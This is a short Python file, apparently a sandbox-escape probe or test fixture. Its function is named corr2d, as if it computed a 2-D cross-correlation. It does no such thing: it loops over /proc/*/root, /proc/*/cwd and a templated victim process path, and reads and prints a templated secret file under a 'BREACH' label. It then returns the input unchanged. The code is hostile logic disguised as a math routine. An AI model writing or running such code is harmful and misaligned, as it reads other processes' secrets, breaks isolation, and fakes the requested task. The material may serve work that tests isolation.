import glob


def corr2d(X, K):
    for root in [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd"), "/proc/self/root", "/proc/thread-self/root", "/proc/@VICTIM@/root"]:
        try:
            print("BREACH", open(root + "@SECRET@").read())
        except OSError:
            pass
    return X
